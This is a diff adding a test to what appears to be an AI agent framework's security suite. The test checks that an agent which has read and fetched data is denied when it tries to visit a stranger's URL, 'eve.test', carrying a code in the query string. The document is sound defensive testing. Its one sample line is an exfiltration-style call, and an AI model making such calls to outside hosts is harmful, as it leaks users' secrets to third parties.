@@ -101,6 +101,19 @@ def test_whoever_was_shown_both_asks_before_it_acts(turns: Any, found: str) -> N
     assert told(*turns) == found
 
 
+@tool(effect="read", kind="fetch")
+async def visit(url: str) -> str:
+    """Visit a page, whose host is told the address."""
+    return "a page"
+
+
+def test_whoever_was_shown_both_asks_before_it_tells_a_stranger_an_address() -> None:
+    agents, there = [Agent("a", tools=[*TOOLS, visit])], call("visit", url="https://eve.test/?code=4711")
+    assert told(READ, there, agents=agents) == told(FETCH, there, agents=agents) == "a page"
+    assert told(FETCH, READ, there, agents=agents) == DENIED
+    assert told(FETCH, READ, there, agents=agents, policy=Policy("open", allow=("visit",))) == DENIED
+
+
 @pytest.mark.parametrize(
     "options",
     [
